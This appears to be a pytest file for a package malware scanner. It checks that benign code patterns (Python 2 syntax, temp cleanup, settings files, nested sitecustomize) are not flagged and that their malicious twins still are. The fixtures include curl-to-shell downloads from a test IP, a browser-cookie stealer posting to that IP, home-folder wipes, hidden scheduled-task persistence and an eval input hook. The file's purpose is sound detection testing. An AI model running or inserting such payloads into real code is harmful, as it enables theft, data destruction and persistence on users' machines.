"""Shapes of popular releases that cried wolf on the tune-only popular-extra-2 corpus, read as
what they are (no project names): Python 2 modules that no Python 3 can compile, and Python
3.14's bare ``except A, B:``. Each test also keeps the malicious shape of the same code at high.
"""

from __future__ import annotations

from app.core.archive import open_artifact
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import make_wheel

HIGH = ("high", "critical")

PY2_MODULE = b"""import sys, os

def fail(exc, tb):
    raise exc, None, tb

def report(config):
    try:
        config.read()
    except IOError, e:
        print "cannot read %s" % e
    return 0xFFFFFFFAL
"""


def _scan(tmp_path, files, name="legacy"):
    return scan_artifact(open_artifact(make_wheel(tmp_path, name=name, files=files)))


def test_a_python_2_module_is_shown_unread_but_is_no_threat(tmp_path):
    """``raise E, v, tb``, ``except E, e:``, print statements, ``0x…L`` literals: no
    Python 3 compiles the file, so nothing in it runs; the moderator still sees it was only
    pattern-read."""
    res = _scan(tmp_path, {"legacy/__init__.py": b"", "legacy/_py2.py": PY2_MODULE})
    unread = [h for h in res.findings if h.capability == "scan.unread"]
    assert unread and all(h.severity == "medium" for h in unread)
    assert "Python 2" in unread[0].explanation
    assert "(line 11: return 0xFFFFFFFAL)" in unread[0].explanation  # where and what
    assert not any(t.id == "disguise.unread" for t in res.threats)
    assert res.risk.level not in HIGH


def test_a_payload_in_a_python_2_module_is_still_found(tmp_path):
    payload = PY2_MODULE + b"os.system('curl http://192.0.2.7/x | sh')\n"
    res = _scan(tmp_path, {"legacy/_py2.py": payload})
    assert any(h.capability == "process.shell_download" for h in res.findings)
    assert res.risk.level in HIGH


def test_a_file_broken_some_other_way_stays_unread_high(tmp_path):
    """A syntax error that is not a Python 2 statement may be syntax of a newer Python (a
    statement opened by a soft keyword, as 3.15's ``lazy import``): what was not read is not
    clean. (A typo no Python accepts is blanked and the rest read: round 17.)"""
    broken = b"import os\nlazy import json\ndef run():\n    os.getcwd()\n"
    res = _scan(tmp_path, {"legacy/broken.py": broken})
    assert any(t.id == "disguise.unread" and t.severity in HIGH for t in res.threats)
    assert res.risk.level in HIGH


def test_python_3_14_bare_except_tuples_are_read_and_analysed(tmp_path):
    """``except ValueError, TypeError:`` (also with a parenthesized first part) is valid from
    Python 3.14 (PEP 758): the file is analysed, not called unread, and a payload beside it is
    found by the analyser."""
    body = (
        b"import subprocess\n"
        b"def load(text):\n"
        b"    try:\n"
        b"        return int(text)\n"
        b"    except ValueError, TypeError:\n"
        b"        return None\n"
        b"    except (KeyError, IndexError), LookupError:\n"
        b"        return 0\n"
        b"subprocess.Popen(['curl', '-o', '/tmp/x', 'http://192.0.2.7/x'])\n"
    )
    res = _scan(tmp_path, {"legacy/__init__.py": body})
    assert not [h for h in res.findings if h.capability in ("scan.unread", "scan.unparsed")]
    assert any(h.path == "legacy/__init__.py" and h.place == "import" for h in res.findings)


def test_removing_the_temp_folder_the_code_made_is_not_destructive(tmp_path):
    """Tests and build steps ``rmtree`` what ``tempfile.mkdtemp()`` gave them; a path built
    from the home folder (even with a temp folder mixed in) is still the home folder."""
    cleanup = (
        b"import os, shutil, tempfile\n"
        b"def build():\n"
        b"    out = os.path.join(tempfile.mkdtemp(), 'diff.json')\n"
        b"    try:\n"
        b"        return out\n"
        b"    finally:\n"
        b"        shutil.rmtree(os.path.dirname(out), ignore_errors=True)\n"
        b"        shutil.rmtree(str(os.environ.get('TEMP')))\n"
    )
    res = _scan(tmp_path, {"legacy/build.py": cleanup})
    assert not [h for h in res.findings if h.capability == "impact.destructive"]
    assert not any(t.id == "impact.destructive" for t in res.threats)

    for n, wipe in enumerate(
        (
            b"shutil.rmtree(str(os.path.expanduser('~') + tempfile.gettempdir()[:0]))",
            b"shutil.rmtree(str(pathlib.Path.home()))",
            b"shutil.rmtree(str(os.environ.get('USERPROFILE')))",
        )
    ):
        (tmp_path / str(n)).mkdir()
        body = b"import os, pathlib, shutil, tempfile\ndef wipe():\n    " + wipe + b"\n"
        res = _scan(tmp_path / str(n), {"legacy/build.py": body})
        assert any(t.id == "impact.destructive" for t in res.threats), wipe
        assert res.risk.level in HIGH


def test_a_scheduled_task_cmdlet_is_persistence_a_name_that_starts_like_one_is_not(tmp_path):
    """``New-ScheduledTaskSession`` is a module's own function (a batch logon to get a token);
    the ScheduledTasks cmdlets that register a task stay persistence."""
    own = (
        b"Function New-ScheduledTaskSession {\n"
        b"    param([string]$User)\n"
        b"    $session = Get-Session $User\n"
        b"}\n"
        b"$session = New-ScheduledTaskSession -User me\n"
    )
    res = _scan(tmp_path, {"legacy/runner.psm1": own})
    assert not any(h.capability == "persist.autostart" for h in res.findings)
    assert res.risk.level not in HIGH

    task = (
        b"$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -f x.ps1'\n"
        b"$t = New-ScheduledTaskTrigger -AtLogOn\n"
        b"Register-ScheduledTask -TaskName Updater -Action $a -Trigger $t\n"
    )
    (tmp_path / "task").mkdir()
    res = _scan(tmp_path / "task", {"legacy/runner.psm1": task})
    lines = {h.line for h in res.findings if h.capability == "persist.autostart"}
    assert lines == {1, 2, 3}
    assert any(t.id == "impact.persistence" for t in res.threats)


def test_a_shell_comment_naming_an_rc_file_is_a_mention(tmp_path):
    """Completion scripts say how to install them in a comment; the same append as a command
    is persistence."""
    script = (
        b"#!/bin/bash\n"
        b"# Installation: tool completion >> ~/.bashrc  (or ~/.zshrc)\n"
        b"complete -F _tool tool\n"
    )
    res = _scan(tmp_path, {"legacy/completion.sh": script})
    hits = [h for h in res.findings if h.capability == "persist.autostart"]
    assert hits and all(h.severity == "medium" for h in hits)  # still shown
    assert not any(t.id == "impact.persistence" for t in res.threats)

    appended = script.replace(b"# Installation: tool", b"  echo 'source ~/.x' ")
    (tmp_path / "run").mkdir()
    res = _scan(tmp_path / "run", {"legacy/completion.sh": appended})
    assert any(t.id == "impact.persistence" for t in res.threats)


def test_a_browser_program_folder_is_not_its_profile_store(tmp_path):
    """Driver managers read the browser's version from its program folder and version key at
    import; a stealer names the profile folder (on macOS and Linux, Brave-Browser itself)."""
    versions = (
        b"import subprocess\n"
        b"COMMANDS = {\n"
        b"    'win': r'(Get-Item -Path \"$env:PROGRAMFILES\\BraveSoftware\\Brave-Browser"
        b"\\Application\\brave.exe\").VersionInfo.FileVersion',\n"
        b"    'reg': r'(Get-ItemProperty -Path Registry::\"HKCU\\SOFTWARE\\BraveSoftware"
        b"\\Brave-Browser\\BLBeacon\").version',\n"
        b"}\n"
        b"def version(os_type):\n"
        b"    return subprocess.run(['powershell', COMMANDS[os_type]], capture_output=True)\n"
    )
    res = _scan(tmp_path, {"legacy/__init__.py": versions})
    assert not [h for h in res.findings if h.capability == "cred.browser_data"]
    assert res.risk.level not in HIGH

    stealer = (
        b"import os, urllib.request\n"
        b"BASE = os.path.expanduser('~/.config/BraveSoftware/Brave-Browser')\n"
        b"data = open(os.path.join(BASE, 'Default', 'Cookies'), 'rb').read()\n"
        b"urllib.request.urlopen('http://192.0.2.7/c', data=data)\n"
    )
    (tmp_path / "steal").mkdir()
    res = _scan(tmp_path / "steal", {"legacy/__init__.py": stealer})
    assert any(h.capability == "cred.browser_data" and h.line == 2 for h in res.findings)
    assert res.risk.level in HIGH


SETTINGS = b"""import json, os
_base = os.path.expanduser("~")
_dir = os.path.join(_base, ".toolkit")
_config_path = os.path.expanduser(os.path.join(_dir, "toolkit.json"))
if not os.path.exists(_config_path):
    os.makedirs(_dir, exist_ok=True)
    with open(_config_path, "w") as f:
        f.write(json.dumps({"backend": "cpu", "epsilon": 1e-7}, indent=4))
"""


def test_writing_its_own_settings_file_at_import_is_not_an_import_time_act(tmp_path):
    """Libraries write their defaults to ~/.name/name.json on first import: shown (medium),
    no place.import_time. A script or a file of no known kind written there stays an act."""
    res = _scan(tmp_path, {"legacy/__init__.py": SETTINGS})
    writes = [h for h in res.findings if h.capability == "fs.write_outside"]
    assert writes and all(h.severity == "medium" for h in writes)
    assert "settings file (toolkit.json)" in writes[0].explanation
    assert not any(t.id == "place.import_time" for t in res.threats)
    assert res.risk.level not in HIGH

    for n, body in enumerate(
        (
            SETTINGS.replace(b'"toolkit.json"', b'"update.py"'),
            SETTINGS.replace(
                b'"toolkit.json"))', b'"toolkit.json"))\n_config_path = os.path.join(_dir, "run")'
            ),
        )
    ):
        (tmp_path / str(n)).mkdir()
        res = _scan(tmp_path / str(n), {"legacy/__init__.py": body})
        assert any(t.id == "place.import_time" for t in res.threats), body
        assert res.risk.level in HIGH


HOOK = b"""import builtins, os
original_input = builtins.input
def input(prompt=""):
    return eval(original_input(prompt))
os.system("curl -s http://192.0.2.7/p -o /tmp/p")
"""


def test_a_sitecustomize_deep_inside_a_package_is_not_a_startup_hook(tmp_path):
    """Python runs a sitecustomize at start only from a sys.path root; a debugger ships one
    four folders down for the processes it debugs. At the top of a wheel it runs everywhere."""
    nested = "legacy/_vendored/pydevd/pydev_sitecustomize/sitecustomize.py"
    res = _scan(tmp_path, {"legacy/__init__.py": b"", nested: HOOK})
    assert not [h for h in res.findings if h.capability == "install.pth_hook"]
    assert not any(h.place == "install" for h in res.findings)
    assert not any(t.id == "place.install_time" for t in res.threats)

    for n, top in enumerate(("sitecustomize.py", "legacy-1.0.data/purelib/sitecustomize.py")):
        (tmp_path / str(n)).mkdir()
        res = _scan(tmp_path / str(n), {"legacy/__init__.py": b"", top: HOOK})
        assert any(h.capability == "install.pth_hook" for h in res.findings), top
        assert any(t.id == "place.install_time" for t in res.threats), top
        assert res.risk.level in HIGH


def test_a_minified_helper_that_shifts_by_a_decimal_is_not_a_string_array_accessor(tmp_path):
    """A minifier writes ``e=e-1``; javascript-obfuscator writes every number in hex
    (``e=e-0x1``). The same string table behind a hex shift is still decoded."""
    from app.core.capabilities.javascript import scan_javascript

    bundle = (
        "var L=['webkit','ms','moz','Moz','o','O'];"
        "function M(e,r){e=e-1;var n=L[e];return r?n+r:n}"
        "module.exports={a:this[M(1,'RequestAnimationFrame')],b:M(2),c:M(3)};\n"
    )
    hits, _ = scan_javascript("dist/bundle.min.js", bundle, "code")
    assert not [h for h in hits if h.rule == "js.string_array"]

    obfuscated = bundle.replace("e=e-1", "e=e-0x1")
    hits, _ = scan_javascript("dist/bundle.min.js", obfuscated, "code")
    assert any(h.rule == "js.string_array" and h.severity in HIGH for h in hits)
